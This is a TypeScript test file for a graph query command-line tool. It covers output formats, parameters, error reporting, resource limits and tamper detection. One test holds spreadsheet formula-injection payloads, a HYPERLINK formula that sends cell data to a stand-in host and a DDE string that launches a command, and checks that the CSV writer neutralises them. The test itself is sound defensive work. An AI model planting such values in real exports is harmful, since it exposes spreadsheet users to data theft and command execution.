import { readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { PropertyGraph } from "@redthread/core/graph";
import { beforeEach, describe, expect, it } from "vitest";
import { harbourGraph, writeGraphCase } from "./harbour-case.js";
import { type Ran, runHere, temporaryFolder } from "./run-cli.js";

let cwd: string;

beforeEach(() => {
  cwd = temporaryFolder();
  const { graph, text } = harbourGraph();
  writeGraphCase(cwd, graph, [text]);
});

const run = (...args: string[]): Promise<Ran> => runHere(args, { cwd });

describe("redthread query", () => {
  it("writes jsonl into a pipe and a table on a terminal", async () => {
    const query = ["query", "MATCH (p:Place) RETURN p.name AS port, 1 AS n"];
    expect(await run(...query)).toEqual({
      code: 0,
      stdout: '{"port":"Beirut","n":1}\n',
      stderr: "",
    });
    const shown = await runHere(query, { cwd, terminal: 80, env: { NO_COLOR: "1" } });
    expect(shown.stdout).toBe("port    n\n──────  ─\nBeirut  1\n");
    expect(shown.stderr).toBe("1 row\n");
  });

  it.each([
    ["json", '[\n{"a":1,"b":"x|y"}\n]\n'],
    ["jsonl", '{"a":1,"b":"x|y"}\n'],
    ["csv", "a,b\n1,x|y\n"],
    ["markdown", "| a | b |\n| --- | --- |\n| 1 | x\\|y |\n"],
    ["table", "a  b\n─  ───\n1  x|y\n"],
  ])("writes %s where it is asked for", async (format, text) => {
    const ran = await run("query", "RETURN 1 AS a, 'x|y' AS b", "--format", format);
    expect(ran).toMatchObject({ code: 0, stdout: text });
  });

  it("colours a terminal unless NO_COLOR says otherwise", async () => {
    const args = ["query", "RETURN 1 AS a"];
    expect((await runHere(args, { cwd, terminal: 80 })).stdout).toContain("\u001b[1m");
    expect(
      (await runHere(args, { cwd, terminal: 80, env: { NO_COLOR: "1" } })).stdout,
    ).not.toContain("\u001b");
  });

  it("takes whole numbers as integers, and a number as text where it is told to", async () => {
    const limited = await run(
      "query",
      "UNWIND ['a', 'b', 'c'] AS v RETURN v SKIP $s LIMIT $n",
      "--param",
      "n=2",
      "--param",
      "s=0",
    );
    expect(limited.stdout).toBe('{"v":"a"}\n{"v":"b"}\n');
    const phone = await run(
      "query",
      "RETURN $p = '0770' AS same, $q AS q",
      "--param",
      "p=0770",
      "--param-text",
      "q=12",
    );
    expect(phone.stdout).toBe('{"same":true,"q":"12"}\n');
    const float = await run("query", "RETURN 1 AS v LIMIT $n", "--param", "n=2.5");
    expect(float.code).toBe(3);
  });

  it("reads the query from standard input or a file", async () => {
    const piped = await runHere(["query", "-"], { cwd, stdin: "RETURN 'ä' AS v" });
    expect(piped.stdout).toBe('{"v":"ä"}\n');
    writeFileSync(join(cwd, "q.cypher"), "RETURN\n  frend");
    const filed = await run("query", "--file", "q.cypher");
    expect(filed.code).toBe(3);
    expect(filed.stderr).toContain("q.cypher:2:3");
    expect((await run("query", "--file", "gone.cypher")).code).toBe(1);
    expect((await run("query", "RETURN 1", "--file", "q.cypher")).code).toBe(2);
    expect((await run("query")).code).toBe(2);
  });

  it("runs the queries of a file one after another, each under its comment", async () => {
    writeFileSync(
      join(cwd, "tour.cypher"),
      "// Which ports?\nMATCH (p:Place) RETURN p.name AS port;\n\n// A text; with a divider.\nRETURN 'a;b' AS v;\n",
    );
    expect((await run("query", "--file", "tour.cypher")).stdout).toBe(
      '{"port":"Beirut"}\n{"v":"a;b"}\n',
    );
    const { stdout } = await run("query", "--file", "tour.cypher", "--format", "table");
    expect(stdout).toBe(
      "Which ports?\n\nport\n──────\nBeirut\n\nA text; with a divider.\n\nv\n───\na;b\n\n",
    );
    const csv = await run("query", "--file", "tour.cypher", "--format", "csv");
    expect(csv).toMatchObject({ code: 2, stdout: "" });
    expect(csv.stderr).toContain("there are 2 queries");
    writeFileSync(join(cwd, "tour.cypher"), "RETURN 1 AS one;\nRETURN frend;");
    const broken = await run("query", "--file", "tour.cypher");
    expect(broken.stderr).toContain("tour.cypher:2:8\n  2 | RETURN frend");
  });

  it("points at what is wrong with a query", async () => {
    expect(await run("query", "MATCH (n RETURN n")).toEqual({
      code: 3,
      stdout: "",
      stderr: expect.stringMatching(
        /^SyntaxError .*\n {2}query:1:10\n {2}1 \| MATCH \(n RETURN n\n {4}\| {10}\^+\n$/,
      ),
    });
    const misspelt = await run("query", "MATCH (noka) RETURN nokka.name");
    expect(misspelt.stderr).toContain("Did you mean `noka`?");
    expect((await run("query", "RETURN $missing")).code).toBe(3);
    expect((await run("query", "UNWIND [1, 0] AS i RETURN 1 / i")).code).toBe(3);
  });

  it("says so when a label is carried by nothing, and answers all the same", async () => {
    const { code, stdout, stderr } = await run("query", "MATCH (n:Plase) RETURN count(n) AS n");
    expect({ code, stdout }).toEqual({ code: 0, stdout: '{"n":0}\n' });
    expect(stderr).toContain("Did you mean `Place`?");
  });

  it("stops with 7 at a limit and never gives a part for the whole", async () => {
    const rows = await run("query", "UNWIND range(1, 100) AS i RETURN i", "--max-rows", "10");
    expect(rows.code).toBe(7);
    expect(rows.stderr).toContain("10");
    let now = 0;
    const clock = () => {
      now += 1_000;
      return now;
    };
    const endless = [
      "query",
      "UNWIND range(1, 1000000) AS i UNWIND range(1, 1000000) AS j RETURN sum(i * j)",
    ];
    const late = await runHere([...endless, "--timeout", "5"], { cwd, now: clock });
    expect(late).toMatchObject({ code: 7, stdout: "" });
    expect((await run("query", "RETURN 1 AS i", "--max-rows", "0")).code).toBe(2);
    const sorted = ["query", "UNWIND range(1, 60000) AS i RETURN i ORDER BY i DESC LIMIT 50000"];
    const held = await run(...sorted, "--memory", "1MB");
    expect(held).toMatchObject({ code: 7, stdout: "" });
    expect(held.stderr).toContain("more than 1 MB");
    expect((await run(...sorted, "--memory", "1GB")).code).toBe(0);
  });

  it("keeps no change of a case and says so", async () => {
    const before = readFileSync(join(cwd, "case/graph.jsonl"), "utf8");
    const { code, stdout, stderr } = await run("query", "CREATE (:Ship {name: 'Tala'})");
    expect({ code, stdout }).toEqual({ code: 0, stdout: "" });
    expect(stderr).toContain("Changed: nodes created: 1, labels added: 1, properties set: 1.");
    expect(stderr).toContain("These changes end with the query");
    expect(readFileSync(join(cwd, "case/graph.jsonl"), "utf8")).toBe(before);
  });

  it("writes CSV that a spreadsheet does not work out and a reader restores", async () => {
    const names = [
      '=HYPERLINK("http://x.example/?q="&A1,"open")',
      "+964 770 123 4567",
      "-Bravo",
      "@SUM(1+1)*cmd|' /C calc'!A0",
      "\t=1+1",
      "007",
    ];
    const graph = new PropertyGraph();
    for (const [id, name] of names.entries())
      graph.createNode(
        ["Entity"],
        [
          ["id", id],
          ["name", name],
          ["n", -12],
        ],
      );
    const folder = temporaryFolder();
    writeGraphCase(folder, graph);
    const query = [
      "query",
      "MATCH (e:Entity) RETURN e.name AS name, e.n AS n ORDER BY e.id",
      "--format",
      "csv",
    ];
    const safe = parseCsv((await runHere(query, { cwd: folder })).stdout);
    for (const [name = "", n] of safe.slice(1)) {
      expect(name).not.toMatch(/^[=+\-@\t\r]/);
      expect(n).toBe("-12");
    }
    const restored = safe
      .slice(1)
      .map(([name = ""]) => (/^'+[=+\-@\t\r]/.test(name) ? name.slice(1) : name));
    expect(restored).toEqual(names);
    const raw = parseCsv((await runHere([...query, "--raw"], { cwd: folder })).stdout);
    expect(raw.slice(1).map(([name]) => name)).toEqual(names);
  });

  it.each([
    ["a case that is not there", ["-c", "nowhere"], /There is no case `nowhere`\. Build one with/],
    ["a folder that is no case", ["-c", "."], /`\.` is no case: it has no manifest\.json/],
  ])("names %s", async (_, args, sentence) => {
    const { code, stderr } = await run("query", "RETURN 1", ...args);
    expect(code).toBe(1);
    expect(stderr).toMatch(sentence);
  });

  it("refuses a graph that was changed after the build", async () => {
    const file = join(cwd, "case/graph.jsonl");
    writeFileSync(file, readFileSync(file, "utf8").replace("Beirut", "Tripoli"));
    const { code, stdout, stderr } = await run("query", "MATCH (n) RETURN n");
    expect({ code, stdout }).toEqual({ code: 5, stdout: "" });
    expect(stderr).toContain("`case/graph.jsonl` was changed after the build");
  });
});

/** RFC 4180, as small as it gets. */
function parseCsv(text: string): readonly (readonly string[])[] {
  const rows: string[][] = [[]];
  for (const [, quoted, plain, end] of text.matchAll(/(?:"((?:[^"]|"")*)"|([^",\n]*))(,|\n|$)/g)) {
    if (quoted === undefined && plain === "" && end === "") continue;
    rows.at(-1)?.push(quoted === undefined ? (plain ?? "") : quoted.replaceAll('""', '"'));
    if (end === "\n") rows.push([]);
  }
  return rows.filter((row) => row.length > 0);
}
